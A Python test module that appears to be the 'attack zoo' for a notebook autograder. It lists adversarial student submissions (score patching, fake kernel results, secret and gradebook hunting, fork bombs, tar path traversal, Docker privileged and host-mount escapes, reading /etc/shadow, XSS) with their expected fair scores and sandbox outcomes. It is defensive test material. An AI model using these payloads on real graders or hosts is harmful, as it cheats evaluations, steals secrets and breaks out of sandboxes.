"""The attack zoo: what learners hand in who would rather have points than earn them, and what is fair for it.

Each is a submission of assignment A03 (20 points: 15 for the image, 4 for the diagnoses, 1 for the import). Its cells
replace those of the release; ``fair`` is the score that the *work* is worth (one of several, where that is luck), None is
"not graded". ``says`` must stand
in the cells' outputs, ``never`` must not.
"""

# ruff: noqa: E501

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

Change = Callable[[NotebookNode], None]
Bring = Callable[[Path], None]

GREET = """
kit.build(
    dockerfile="FROM scratch\\nCOPY greet /\\nUSER 1000\\nCMD [\\"/greet\\"]\\n",
    files={"greet": kit.elf.tiny(f"Hello, {nonce}\\n")},
    tag="a03/greet:1",
)
"""
SECRET = "the-graders-own-secret"


@dataclass(frozen=True)
class Attack:
    """One submission. ``greet``, ``answers`` and ``base`` are cells; ``change`` and ``bring`` act on what is handed
    in: the notebook, its directory."""

    name: str
    greet: str = "pass"
    answers: str = "answers = {}"
    base: str = "pass"
    fair: float | tuple[float, ...] | None = 0
    says: str = ""
    never: str = ""
    change: Change | None = None
    bring: Bring | None = None

    @property
    def cells(self) -> Mapping[str, str]:
        return {"greet": self.greet, "answers": self.answers, "base": self.base}


# ---- changes of the notebook


def mark(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def without_grade_cells(notebook: NotebookNode) -> None:
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def without_setup(notebook: NotebookNode) -> None:
    notebook.cells.remove(mark(notebook, "setup"))


def with_metadata(**facts: object) -> Change:
    return lambda notebook: mark(notebook, "score").metadata["nbgrader"].update(facts)


def duplicated(notebook: NotebookNode) -> None:
    score = mark(notebook, "score")
    notebook.cells += [NotebookNode(score), NotebookNode(mark(notebook, "greet") | {"source": "raise SystemExit"})]


def of_old_schema(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"] = {"schema_version": 1, "grade_id": cell.metadata["nbgrader"]["grade_id"]}


def score_rewritten(notebook: NotebookNode) -> None:
    mark(notebook, "score").source = "20.0"


def setup_rewritten(notebook: NotebookNode) -> None:
    mark(notebook, "setup").source = "class graders: score = staticmethod(lambda *a, **k: 20.0)"


def with_saved_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("execute_result", data={"text/plain": "20.0"}, execution_count=1)]


def score_first(notebook: NotebookNode) -> None:
    score = mark(notebook, "score")
    notebook.cells.remove(score)
    notebook.cells.insert(0, score)


def as_raw(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in ("greet", "score"):
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def of_other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def with_odd_metadata(notebook: NotebookNode) -> None:
    notebook.metadata = {"nbgrader": [1, 2], "celltoolbar": "../../etc", "kernelspec": {"name": "../../bin/sh"}}
    notebook.cells[0].metadata = {"nbgrader": "x", "tags": ["raises-exception", "skip-execution"]}
    for cell in notebook.cells:
        cell.metadata.setdefault("tags", []).append("skip-execution")


def with_html(notebook: NotebookNode) -> None:
    notebook.cells.append(new_markdown_cell("<script>alert('from markdown')</script><img src=x onerror=alert(2)>"))


def with_more_cells(notebook: NotebookNode) -> None:
    fake = {"grade": True, "points": 100, "grade_id": "bonus", "schema_version": 3, "solution": False, "locked": True}
    cell = new_code_cell("100.0", metadata={"nbgrader": fake | {"task": False, "cell_type": "code"}})
    notebook.cells.append(cell)


# ---- files that come with it


def with_packages(place: Path) -> None:
    """What Python imports from the current directory, if it is asked to."""
    for name in ("sitecustomize", "usercustomize", "pytest"):
        (place / f"{name}.py").write_text("def score(*a, **k): return 20.0\nscore.patched = True\n")
    (place / "conftest.py").write_text("raise SystemExit")
    (place / "rubric_03_mine.py").write_text("def test_all(): pass")


def corrupt(place: Path) -> None:
    (place / "greet.ipynb").write_text('{"cells": [')


def as_link(place: Path) -> None:
    (place / "greet.ipynb").unlink()
    (place / "greet.ipynb").symlink_to("../../honest/a03/greet.ipynb")


def deeply_nested(place: Path) -> None:
    (place / "greet.ipynb").write_text("[" * 100_000 + "]" * 100_000)


def not_utf8(place: Path) -> None:
    (place / "greet.ipynb").write_bytes(b'{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {"\xff": 1}}')


# ---- what stands in the cells

FIND = """
import glob, os
found = []
for pattern in ("../*", "../../*", "../../../*", "/root/*", "/home/*/*", "/work/*", "/tmp/*", "/opt/layerlab/*"):
    found += glob.glob(pattern)
def texts(top):
    for above, _, names in os.walk(top):
        for name in names:
            try:
                yield os.path.join(above, name), open(os.path.join(above, name), errors="replace").read(200_000)
            except OSError:
                pass
"""
ENGINE = "import docker\nclient = docker.from_env()\n"

HONEST = [
    Attack("honest", GREET, fair=15),
    Attack(
        "honest-warns", f"import warnings, sys\n{GREET}\nwarnings.warn('old')\nprint('!', file=sys.stderr)", fair=15
    ),
    Attack("nothing", fair=0),
]

KERNEL = [
    Attack("raise-systemexit", "raise SystemExit(0)"),
    Attack("os-exit", "import os; os._exit(0)"),
    Attack("os-exit-after-the-work", GREET + "\nimport os; os._exit(0)", fair=15),
    Attack("kill-all", "import os, signal; os.kill(-1, signal.SIGKILL)"),
    Attack("print-a-score", "print('20.0'); print(\"{'text/plain': '20.0'}\")"),
    Attack("redefine-print", "import builtins; builtins.print = lambda *a, **k: 20.0"),
    Attack(
        "always-equal",
        answers="class Equal(dict):\n    __eq__ = lambda *a: True\n    __ne__ = lambda *a: False\n"
        "    get = lambda *a: Equal()\nanswers = Equal(b1=Equal(), b2=Equal())",
    ),
    Attack("ast-strip-asserts", "import ast\nclass Strip(ast.NodeTransformer):\n    visit_Assert = lambda *a: None\n"
           "get_ipython().ast_transformers.append(Strip())"),
    Attack("input-transformer", "get_ipython().input_transformers_cleanup.append(lambda lines: ['20.0\\n'])"),
    Attack("showtraceback-off", "get_ipython().showtraceback = lambda *a, **k: None\n1/0"),
    Attack("run-cell-patched", "import types\nip = get_ipython()\nold = ip.run_cell\n"
           "ip.run_cell = lambda *a, **k: old('20.0', *a[1:], **k)"),
    Attack("fake-execute-result", "k = get_ipython().kernel\nk.session.send(k.iopub_socket, 'execute_result', "
           "{'data': {'text/plain': '20.0'}, 'metadata': {}, 'execution_count': 1}, parent=k.get_parent())"),
    Attack("do-execute-patched", "k = get_ipython().kernel\nasync def fake(*a, **k): return {'status': 'ok', "
           "'execution_count': 1, 'payload': [], 'user_expressions': {}}\nk.do_execute = fake"),
    Attack("patch-score", "import graders\ngraders.score = graders.check = lambda *a, **k: 20.0"),
    Attack("stub-in-sys-modules", "import sys, types\nm = types.ModuleType('graders')\nm.score = lambda *a, **k: 20.0\n"
           "sys.modules['graders'] = m; graders = m"),
    Attack("score-none", "import graders\ngraders.score = lambda *a, **k: None"),
    Attack("score-nan", "import graders\ngraders.score = lambda *a, **k: float('nan')"),
    Attack("score-negative", "import graders\ngraders.score = lambda *a, **k: -1"),
    Attack("score-over-max", "import graders\ngraders.score = lambda *a, **k: 1e9"),
    Attack("overwrite-the-graders", "open('/opt/layerlab/graders/__init__.py', 'w').write('score = lambda *a: 20.0')",
           says="Read-only file system"),
    Attack("overwrite-the-interpreter", "import sys; open(sys.prefix + '/lib/x.pth', 'w')", says="Read-only file system"),
    Attack("json-dumps-patched", answers="import json\njson.dumps = lambda *a, **k: '{\"answers\": {\"b1\": 1}}' * 2\n"
           "answers = {}"),
    Attack("daemon-thread", "import threading\ndef forever():\n    while True: pass\n"
           "threading.Thread(target=forever, daemon=True).start()"),
    Attack("detached-daemon", "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 600; echo 20.0'], "
           "start_new_session=True)"),
    Attack("startup-file", "import os\nfor top in (os.path.expanduser('~/.ipython'), '/root/.ipython', '/tmp/ipython'):\n"
           "    try:\n        os.makedirs(top + '/profile_default/startup', exist_ok=True)\n"
           "        open(top + '/profile_default/startup/00.py', 'w').write('print(\"PERSISTED\")')\n"
           "    except OSError: pass"),
    Attack("victim-after-it", "print('clean')", says="clean", never="PERSISTED"),
    Attack("malformed-messages", "k = get_ipython().kernel\nfor kind in ('execute_result', 'stream', 'status', 'error', "
           "'display_data', 'update_display_data', 'clear_output', 'comm_open', 'nonsense'):\n"
           "    k.session.send(k.iopub_socket, kind, {'x': None}, parent=k.get_parent())\n" + GREET, fair=15),
    Attack("garbage-on-the-wire", "k = get_ipython().kernel\nk.iopub_socket.send(b'\\0' * 100)\n"
           "k.iopub_socket.send_multipart([b'a', b'<IDS|MSG>', b'', b'{', b'[', b'', b'\\xff'])\n" + GREET, fair=15),
    Attack("no-connection-file", "import glob, os\nfor path in glob.glob('../run/*'): os.unlink(path)\n" + GREET, fair=15),
]  # fmt: skip

READING = [
    Attack("read-the-course", FIND + "print([path for path in found if 'source' in path or 'gradebook' in path])",
           never="gradebook.db"),
    Attack("read-hidden-tests", FIND + "hits = [p for top in ('..', '/opt', '/root', '/home', '/work') for p, text in "
           "texts(top) if 'def test_diagnosed' in text]\nprint('HITS', hits)", says="HITS []"),
    Attack("import-the-rubric", "from graders.rubrics import rubric_03_from_scratch", says="ModuleNotFoundError"),
    Attack("import-the-clinic", answers="from graders.clinic import causes\nanswers = causes(nonce)",
           says="ModuleNotFoundError"),
    Attack("foretell-the-diagnoses", answers="import random\ncauses = ('no-shell', 'no-loader', 'not-executable', "
           "'wrong-architecture')\nanswers = dict(zip(('b1', 'b2', 'b3', 'b4'), "
           "random.Random(nonce).sample(causes, 4)))", fair=1),  # one is right by luck, as in any guess
    Attack("read-the-history", "print('GRADERS.' + 'SCORE' in str(In).upper())", says="False"),
    Attack("copy-another-student", FIND + "print('SEEN', [p for p, text in texts('../..') if p.endswith('.ipynb')])",
           says="SEEN []"),
    Attack("write-the-gradebook", "import sqlite3\nsqlite3.connect('../../../gradebook.db').execute("
           "'update grade set extra_credit = 10')", says="OperationalError"),
    Attack("only-when-graded", "import os\nif 'NBGRADER_EXECUTION' in os.environ:\n" +
           "\n".join("    " + line for line in GREET.splitlines()), fair=0),
    Attack("environment", "import os\nprint(dict(os.environ))\nfor pid in os.listdir('/proc'):\n    try:\n"
           "        print(open(f'/proc/{pid}/environ').read())\n    except OSError: pass", never=SECRET),
    Attack("network", "import socket\nfor place in (('192.0.2.1', 80), ('1.1.1.1', 53), ('8.8.8.8', 443)):\n    try:\n"
           "        socket.create_connection(place, 3); print('REACHED')\n    except OSError as e: print(e)",
           says="Network is unreachable", never="REACHED"),
    Attack("look-up-a-name", "import socket\nsocket.getaddrinfo('example.org', 80)", says="gaierror"),
    Attack("become-root", "import os, subprocess\nfor call in (os.setuid, os.setgid):\n    try: call(0)\n"
           "    except OSError as e: print(e)\nprint('WHO', os.getuid() == 0)\n"
           "print(subprocess.run(['unshare', '-r', 'mount', '-t', 'tmpfs', 'x', '/mnt'], capture_output=True).returncode)",
           says="WHO False"),
    Attack("abstract-sockets", "print('SOCKETS', len([l for l in open('/proc/net/unix') if '@' in l]))",
           says="SOCKETS 0"),
]  # fmt: skip

WASTE = [
    Attack("sleep-forever", "import time\ntry:\n    while True: time.sleep(1)\nexcept KeyboardInterrupt: pass\n"
           "print('woken')", says="woken"),
    Attack("fork-bomb", "import os, time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0: time.sleep(60)\n"
           "        n += 1\nexcept OSError as e: print('FORKS', n < 200)", says="FORKS True"),
    Attack("memory", "try: x = b'x' * (8 << 30)\nexcept MemoryError: print('bounded')", says="bounded"),
    Attack("huge-output", "for i in range(3000): print('x' * 1000)"),
    Attack("huge-display", "from IPython.display import display, HTML\nfor i in range(200): display(HTML('y' * 10_000))"),
    Attack("giant-file", "with open('giant', 'wb') as f:\n    f.seek(1 << 30); f.write(b'x')", says="File too large"),
    Attack("many-files", "import os\ntry:\n    for i in range(60):\n        with open(f'f{i}', 'wb') as f: f.write(b'x' * "
           "(10 << 20))\nfinally: [os.unlink(f) for f in os.listdir('.')]"),
    Attack("open-files", "try: keep = [open('/dev/null') for _ in range(5000)]\nexcept OSError as e: print(e)",
           says="Too many open files"),
    Attack("threads", "import threading, time\ntry:\n    for _ in range(500): threading.Thread(target=time.sleep, "
           "args=(5,), daemon=True).start()\nexcept RuntimeError as e: print(e)", says="can't start new thread"),
]  # fmt: skip

ANSWERS = [
    Attack("answers-are-a-list", answers="answers = ['no-shell'] * 4"),
    Attack("answers-are-everything", answers="answers = {n: ['no-shell', 'no-loader', 'not-executable', "
           "'wrong-architecture'] for n in ('b1', 'b2', 'b3', 'b4')}"),
    Attack("answers-are-deep", answers="answers = x = {}\nfor _ in range(100_000): x['b1'] = {}; x = x['b1']"),
    Attack("answers-are-huge", answers="answers = {'b1': 'x' * (1 << 28)}"),
    Attack("answers-are-odd", answers="answers = {'b1': float('nan'), 'b2': None, 'b3': {}, '\\x1b[2J<script>': 1}"),
    Attack("answers-take-forever", answers="import time\nclass Slow(dict):\n    def items(self): time.sleep(600)\n"
           "answers = Slow(b1=1)"),
    Attack("answers-exit", answers="import os\nclass Bye(dict):\n    def items(self): os._exit(1)\nanswers = Bye(b1=1)"),
    Attack("no-answers-at-all", GREET, "del graders", "answers = None", fair=15),
]  # fmt: skip

ENGINES = [
    Attack("bind-the-machine", ENGINE + "print(client.containers.run('busybox:1', 'ls /host', volumes=['/:/host']))",
           says="bind source path does not exist"),
    Attack("bind-by-a-link", ENGINE + "import os\nos.symlink('/', 'top')\nprint(client.containers.run('busybox:1', "
           "'ls /host', volumes=[os.getcwd() + '/top/etc:/host']))", says="bind source path does not exist"),
    Attack("bind-the-engine", ENGINE + "import os\nsock = os.environ['DOCKER_HOST'][7:]\n"
           "client.containers.run('busybox:1', 'true', volumes=[sock + ':/s'])", says="bind source path does not exist"),
    Attack("privileged", ENGINE + "print(client.containers.run('busybox:1', ['sh', '-c', 'mount -t proc p /mnt; "
           "ls /dev/sda /dev/vda; cat /proc/1/environ'], privileged=True, pid_mode='host', stderr=True))", never=SECRET),
    Attack("host-network", ENGINE + "print(client.containers.run('busybox:1', ['sh', '-c', 'ip addr | grep -c inet; "
           "nc -w 2 192.0.2.1 80; echo DONE'], network_mode='host', stderr=True).decode())", says="DONE"),
    Attack("volume-of-the-machine", ENGINE + "client.volumes.create('vol', driver='local', driver_opts={'type': 'none', "
           "'device': '/', 'o': 'bind'})", says="plain directories"),
    Attack("pull-from-elsewhere", ENGINE + "client.images.pull('registry.example/x', '1')", says="no such host"),
    Attack("remote-context", ENGINE + "client.images.build(path='http://192.0.2.1/x.tar.gz', tag='a03/greet:1')",
           says="network is unreachable"),
    Attack("add-from-elsewhere", "kit.build(dockerfile='FROM scratch\\nADD http://192.0.2.1/x /\\n', files={'x': b''}, "
           "tag='a03/greet:1')", says="network is unreachable"),
    Attack("copy-from-above", "kit.build(dockerfile='FROM busybox:1\\nCOPY ../../../etc/shadow /\\n', files={'x': b''}, "
           "tag='a03/greet:1')", never="root:*"),
    Attack("mount-in-a-build", "print(kit.build(dockerfile='FROM busybox:1\\nRUN --mount=type=bind,source=/,target=/host "
           "ls /host/etc; ls /host\\n', files={'x': b''}, tag='x:1'))", never="shadow"),
    Attack("context-of-links", "import os\nos.makedirs('ctx', exist_ok=True)\nos.symlink('/etc/hostname', 'ctx/h')\n"
           "open('ctx/Dockerfile', 'w').write('FROM busybox:1\\nCOPY . /c\\nRUN cat /c/h || echo NOTHING\\n')\n"
           + ENGINE + "client.images.build(path='ctx', tag='x:1')"),
    Attack("build-forks", "kit.build(dockerfile='FROM busybox:1\\nRUN f() { f | f & }; f; sleep 2; true\\n', "
           "files={'x': b''}, tag='x:1')"),
    Attack("build-fills-the-disk", ENGINE + "import io\nfor step in client.api.build(fileobj=io.BytesIO(b'FROM busybox:1\\n"
           "RUN while true; do cat /bin/busybox >> /full; done'), rm=True): print(step)", says="returned a non-zero code"),
    Attack("build-prints-endlessly", ENGINE + "import io, itertools\nfor step in itertools.islice(client.api.build("
           "fileobj=io.BytesIO(b'FROM busybox:1\\nRUN yes')), 2000): pass\nprint('enough')", says="enough"),
    Attack("build-sleeps", ENGINE + "import io\nfor step in client.api.build(fileobj=io.BytesIO(b'FROM busybox:1\\n"
           "RUN sleep 10000')): print(step)"),
    Attack("a-bomb-to-load", ENGINE + "import gzip, io, tarfile, zlib\nout = io.BytesIO()\n"
           "with gzip.open(out, 'wb', 1) as z:\n    t = tarfile.TarFile(fileobj=z, mode='w')\n"
           "    i = tarfile.TarInfo('bomb'); i.size = 1 << 30\n    class Zero:\n        def read(self, n): return bytes(n)\n"
           "    t.addfile(i, Zero())\nout.seek(0)\ntry: print(client.api.import_image_from_data(out.read(), 'bomb', '1'))\n"
           "except Exception as e: print(str(e)[:300])"),
    Attack("layers-that-escape", ENGINE + "import io, tarfile\nout = io.BytesIO()\nt = tarfile.TarFile(fileobj=out, mode='w')\n"
           "for name in ('../../../../../../tmp/escaped', '/tmp/escaped', 'a/../../../../tmp/escaped'):\n"
           "    i = tarfile.TarInfo(name); i.size = 1; t.addfile(i, io.BytesIO(b'x'))\n"
           "l = tarfile.TarInfo('l'); l.type = tarfile.SYMTYPE; l.linkname = '/tmp'; t.addfile(l)\n"
           "i = tarfile.TarInfo('l/escaped'); i.size = 1; t.addfile(i, io.BytesIO(b'x'))\nt.close()\n"
           "print(client.api.import_image_from_data(out.getvalue(), 'escape', '1'))\n"
           "c = client.containers.create('escape:1', 'x'); c.put_archive('/', out.getvalue())"),
    Attack("detects-grading", "kit.build(dockerfile='FROM busybox:1\\nCMD [\"sh\", \"-c\", \"test -e /.dockerenv && "
           "test -n \\\"$NBGRADER_EXECUTION\\\" && echo Hello\"]\\n', files={'x': b''}, tag='a03/greet:1')", fair=0),
    Attack("word-of-another", GREET.replace("{nonce}", "abcdefgh"), fair=11),
    Attack("huge-logs", ENGINE + "c = client.containers.run('busybox:1', 'yes', detach=True)\nimport time; time.sleep(3)\n"
           "print('THERE', c.status is not None)", says="THERE True"),
    Attack("forever-in-the-entrypoint", "kit.build(dockerfile='FROM busybox:1\\nUSER 1000\\n"
           "ENTRYPOINT [\"/bin/sleep\", \"1000\"]\\n', files={'x': b''}, tag='a03/greet:1')", fair=2),
    # Two images, each good in another way, take turns under one name: the grader may see either, and never both.
    Attack("tag-moves", ENGINE + GREET.replace("{nonce}", "abcdefgh").replace("a03/greet:1", "small:1")
           + GREET.replace("FROM scratch", "FROM busybox:1").replace("USER 1000\\n", "").replace("a03/greet:1", "mine:1")
           + "import threading\ntwo = [client.images.get(n).id for n in ('small:1', 'mine:1')]\nclient.api.tag(two[0], "
           "'a03/greet', '1')\ndef move():\n    c = docker.from_env()\n    while True:\n"
           "        for i in two: c.api.tag(i, 'a03/greet', '1')\n"
           "threading.Thread(target=move, daemon=True).start()", fair=(6, 11)),
]  # fmt: skip

NOTEBOOKS = [
    Attack("deleted-grade-cells", GREET, fair=15, change=without_grade_cells),
    Attack("deleted-setup-cell", GREET, fair=15, change=without_setup),
    Attack("more-points-in-the-metadata", GREET, fair=15, change=with_metadata(points=1000)),
    Attack("grade-false", GREET, fair=15, change=with_metadata(grade=False)),
    Attack("grade-cell-as-solution", GREET, fair=15, change=with_metadata(solution=True, locked=False)),
    Attack("grade-id-renamed", GREET, fair=15, change=with_metadata(grade_id="other")),
    Attack("grade-id-of-odd-kind", GREET, fair=15, change=with_metadata(grade_id=["score"])),
    Attack("duplicated-cells", GREET, fair=15, change=duplicated),
    Attack("old-schema", GREET, fair=15, change=of_old_schema),
    Attack("score-cell-rewritten", fair=0, change=score_rewritten),
    Attack("setup-cell-rewritten", fair=0, change=setup_rewritten),
    Attack("saved-outputs", fair=0, change=with_saved_outputs),
    Attack("score-cell-first", GREET, fair=15, change=score_first),
    Attack("raw-cells", GREET, fair=15, change=as_raw),
    Attack("other-kernel", GREET, fair=15, change=of_other_kernel),
    Attack("odd-metadata", GREET, fair=15, change=with_odd_metadata),
    Attack("bonus-cell", fair=0, change=with_more_cells),
    Attack("html", GREET + "\nfrom IPython.display import HTML, Javascript, SVG, display\n"
           "for thing in (HTML, Javascript, SVG): display(thing('<svg><script>alert(1)</script></svg>'))",
           fair=15, change=with_html),
    Attack("corrupt-json", fair=None, bring=corrupt),
    Attack("deeply-nested-json", fair=None, bring=deeply_nested),
    Attack("not-utf8", fair=None, bring=not_utf8),
    Attack("a-link-to-another", fair=None, bring=as_link),
    Attack("own-packages", "import sys; sys.path.insert(0, '.')\nimport graders\nprint('HERE')\n" + GREET, fair=15,
           bring=with_packages),
]  # fmt: skip

EVERY_TIME = {
    *("honest", "always-equal", "fake-execute-result", "do-execute-patched", "patch-score", "os-exit-after-the-work"),
    *("import-the-clinic", "foretell-the-diagnoses", "environment", "network", "become-root", "fork-bomb", "memory"),
    *("answers-are-odd", "bind-the-machine", "bind-by-a-link", "host-network", "tag-moves", "build-fills-the-disk"),
    *("deleted-grade-cells", "duplicated-cells", "grade-id-of-odd-kind", "html", "corrupt-json"),
}
"""The whole zoo takes some minutes; these are of every kind. The others come along with LAYERLAB_SLOW=1."""

ZOO = [*HONEST, *KERNEL, *READING, *WASTE, *ANSWERS, *ENGINES, *NOTEBOOKS]


def hand_in(attack: Attack, release: str, place: Path) -> None:
    """Writes the submission as the learner hands it in."""
    import nbformat

    notebook = nbformat.reads(release, as_version=4)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        cell.source = attack.cells.get(name, cell.source)
    if attack.change:
        attack.change(notebook)
    place.mkdir(parents=True)
    (place / "greet.ipynb").write_text(json.dumps(notebook))
    if attack.bring:
        attack.bring(place)
